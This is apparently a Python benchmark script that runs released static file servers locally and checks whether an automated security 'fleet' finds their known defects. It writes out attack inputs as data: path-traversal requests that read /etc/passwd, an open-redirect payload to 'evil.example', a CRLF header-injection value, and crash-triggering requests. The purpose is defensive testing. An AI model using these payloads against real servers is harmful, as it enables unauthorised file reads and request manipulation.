"""What the fleet finds in released servers of which defects are known, each by one plain request.

    make bench-known [ARGS="--only st,mcstatic --personas qa-security --keep DIR"]

Each server (.ci/known) is started as its manual says, on a folder with a little content. A defect is known
when one plain request shows it here, before the fleet looks: SERVERS has the request and what its answer
must have. The shipped personas then look once, in a fresh state directory, with a bare profile. Items that
are none of the known defects are listed for a person to judge. docs/bench/known.md has the results. Exit
status 1 when a server could not be looked at, or a known defect did not show.
"""

from __future__ import annotations

import json
import re
import shlex
import socket
import sys
from collections.abc import Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from string import Template
from typing import Any

import anyio

from bench.findings.causes import causes, hand_made
from bench.findings.fleet_rounds import FinderOutcome
from bench.released import Words, chosen, content, looked_at
from fleet.files import ROOT
from tests.platforms.served import Served, free_port

PLACE = ROOT / ".known"
BIN = PLACE / "node_modules" / ".bin"
LONGEST_S = 5.0


@dataclass(frozen=True, slots=True)
class KnownDefect:
    """Requests, in order, and what the last answer has, status line and headers included.

    A request has its first line as it is sent, its headers and its body. `keep` takes values from answers
    (the first group of a pattern) for `$name` in the requests after them. A title of the fleet that reports
    it has `item` and `place`.
    """

    name: str
    requests: Sequence[str]
    shows: str
    item: str
    place: str = ""
    keep: Mapping[str, str] = field(default_factory=dict)

    def reported_by(self, title: str) -> bool:
        return bool(re.search(self.item, title) and re.search(self.place, title))


def get(path: str) -> tuple[str, ...]:
    return (f"GET {path} HTTP/1.1",)


def climbs(path: str) -> KnownDefect:
    return KnownDefect(
        "reads any file",
        get(path),
        r"(?m)^root:x:0:0",
        "^Files outside the served folder can be read: .*/etc/passwd",
    )


def goes_elsewhere(path: str) -> KnownDefect:
    return KnownDefect(
        "sends a browser elsewhere",
        get(path),
        r"(?mi)^location: *//evil\.example",
        "it leads to",
    )


def ends(path: str) -> KnownDefect:
    return KnownDefect("ends at one request", get(path), r"\A\Z", "^One request ends the server: ")


UP = "/../../../../../../../../../.."
ENCODED = UP.replace("..", "%2e%2e")
ELSEWHERE = "//evil.example/%2f.."


def again(folder: Path, line: str) -> list[str]:
    """A shell's line run in a folder, and started again when it ends, as a service is: some end at the first
    odd request."""
    loop = f"trap 'kill $!; exit' TERM; while :; do {line} & wait $!; sleep 0.1; done"
    return ["/bin/sh", "-c", f"cd {shlex.quote(str(folder))} && {loop}"]


def node(name: str, words: str) -> Words:
    """A command of an npm package, run in the folder with the files."""

    def started(at: Path, port: int) -> list[str]:
        program = "node" if name == "node" else BIN / name
        return again(at / "files", f"{program} {words.format(port=port, place=PLACE / 'node_modules')}")

    return started


def copyparty(at: Path, port: int) -> list[str]:
    words = ["-m", "copyparty", "-p", f"{port}", "-i", "127.0.0.1", "-v", f"{at}/files::r", "--no-thumb"]
    words += ["--ban-404", "0", "--ban-pw", "0"]  # as an operator lets his testers in
    return [str(PLACE / "venv" / "bin" / "python"), *words]


SERVERS: Mapping[str, tuple[Words, Sequence[KnownDefect]]] = {
    "angular-http-server": (node("angular-http-server", "-p {port}"), [climbs("//etc/passwd")]),
    "copyparty": (
        copyparty,
        [
            climbs("/.cpr/%2Fetc%2Fpasswd"),
            KnownDefect(
                "lets a caller add headers",
                get("/?k304=y%0d%0aqa-in:1"),
                "(?mi)^qa-in: ?1",
                "adds the header",
            ),
        ],
    ),
    "buttle": (node("buttle", "--port {port}"), [goes_elsewhere(ELSEWHERE)]),
    "crud-file-server": (
        node("crud-file-server", "-f . -p {port}"),
        [climbs(f"{ENCODED}/etc/passwd"), ends("/%")],
    ),
    "ecstatic": (node("ecstatic", ". --port {port}"), [goes_elsewhere(ELSEWHERE)]),
    "file-static-server": (
        node("node", "{place}/file-static-server/server.js {port} ."),
        [climbs(f"{UP}/etc/passwd")],
    ),
    "hekto": (
        node("hekto", "serve --port {port}"),
        [climbs(f"{UP}/etc/passwd")],
    ),
    "http-server": (node("http-server", "-p {port} ."), [goes_elsewhere(ELSEWHERE)]),
    "lactate": (node("lactate", "-p {port} -r ."), [climbs(f"{UP}/etc/passwd")]),
    "localhost-now": (
        node("localhost", "{port}"),
        [climbs("/" + "....//" * 10 + "etc/passwd"), ends("/?q=1")],
    ),
    "mcstatic": (node("mcstatic", "-p {port} ."), [climbs(f"{ENCODED}/etc/passwd")]),
    "public": (node("public", ". {port}"), [climbs(f"{UP}/etc/passwd")]),
    "serve": (node("serve", "-p {port} ."), []),
    "sexstatic": (node("sexstatic", ". --port {port}"), [goes_elsewhere(ELSEWHERE)]),
    "st": (
        node("st", "-p {port} -d ."),
        [climbs(f"{ENCODED}/etc/passwd"), goes_elsewhere(ELSEWHERE), ends("/%00")],
    ),
    "startserver": (node("ss", "-p {port}"), []),
    "static-here": (node("static-here", "{port}"), [climbs(f"{UP}/etc/passwd")]),
    "static-resource-server": (
        node("static-resource-server", "-P {port}"),
        [climbs(f"{UP}/etc/passwd")],
    ),
    "stattic": (node("node", "{place}/stattic/cli.js --folder . --port {port}"), []),
    "takeapeek": (node("takeapeek", "-p {port}"), [goes_elsewhere(ELSEWHERE)]),
}


def filled(at: Path) -> Path:
    """Content, with a page that a server may show first."""
    content(at)
    links = "".join(f'<li><a href="note{number}.txt">note {number}</a></li>' for number in range(4))
    page = '<!doctype html><html lang="en"><head><title>Moss</title></head><body><h1>Moss</h1>'
    (at / "files" / "index.html").write_text(f"{page}<ul>{links}</ul></body></html>\n")
    (at / "files" / "more").mkdir()
    (at / "files" / "more" / "deep.txt").write_text("deep\n")
    return at


def answer(port: int, request: str) -> str:
    """Of a request with its first line as it is, which no HTTP client would send; "" when none comes."""
    head, _, body = request.partition("\n\n")
    lines = [*head.strip().split("\n"), "Connection: close"]
    if not re.search("(?im)^host:", head):
        lines.insert(1, f"Host: 127.0.0.1:{port}")
    if "multipart/" in head:
        body = body.replace("\n", "\r\n")
    if body:
        lines.append(f"Content-Length: {len(body.encode())}")
    got = b""
    with (
        suppress(ConnectionError, TimeoutError),  # what a server that ends, or hangs, leaves behind
        socket.create_connection(("127.0.0.1", port), LONGEST_S) as line,
    ):
        line.settimeout(LONGEST_S)
        line.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
        while len(got) < 1 << 20 and (more := line.recv(65_536)):
            got += more
    return got.decode("utf-8", "replace").replace("\r", "")


def by_hand(port: int, defect: KnownDefect, values: Mapping[str, str]) -> str:
    """The last answer to a defect's requests."""
    values, got = {"port": str(port), **values}, ""
    for request in defect.requests:
        got = answer(port, Template(request).safe_substitute(values))
        for name, pattern in defect.keep.items():
            if found := re.search(pattern, got):
                values[name] = found[1]
    return got


async def shown(program: Words, defects: Sequence[KnownDefect], folder: Path) -> list[str]:
    """Names of the defects that show by hand."""
    port = free_port()
    async with Served(program(filled(folder / "by-hand"), port), port, folder / "by-hand.log"):
        found = []
        for one in defects:
            got = await anyio.to_thread.run_sync(by_hand, port, one, {})
            found += [one.name] if re.search(one.shows, got) else []
        return found


def told(outcome: FinderOutcome, defects: Sequence[KnownDefect], by_hand: Sequence[str]) -> dict[str, Any]:
    """Of one server: each known defect with the items that report it, and all other items."""
    posted = [one.title for one in outcome.items]
    known = {one.name: [title for title in posted if one.reported_by(title)] for one in defects}
    taken = {title for some in known.values() for title in some}
    unseen = [f"{one.name}: did not show by hand" for one in defects if one.name not in by_hand]
    return {
        "known": known,
        "others": [title for title in posted if title not in taken],
        "calls": outcome.calls,
        "seconds": round(outcome.seconds, 1),
        "troubles": [*outcome.troubles, *unseen],
    }


def titles(one: Mapping[str, Any]) -> list[str]:
    return [*(title for items in one["known"].values() for title in items), *one["others"]]


async def run(names: list[str], personas: tuple[str, ...], folder: Path) -> int:
    """Looks at each in turn; prints what was found as JSON."""
    said = {}
    for name in names:
        program, defects = SERVERS[name]
        (folder / name).mkdir(parents=True, exist_ok=True)
        by_hand = await shown(program, defects, folder / name)
        outcome = await looked_at(name, program, folder / name, personas, filled)
        said[name] = told(outcome, defects, by_hand)
    print(json.dumps(said, indent=1))
    every = [bool(items) for one in said.values() for items in one["known"].values()]
    print(f"{sum(every)} of {len(every)} known defects found", file=sys.stderr)
    named = [(name, title) for name, one in said.items() for title in titles(one)]
    print(causes(named, hand_made()), file=sys.stderr)
    return 1 if any(one["troubles"] for one in said.values()) else 0


if __name__ == "__main__":
    sys.exit(chosen(__doc__, SERVERS, "qa-security,qa-ux", run))
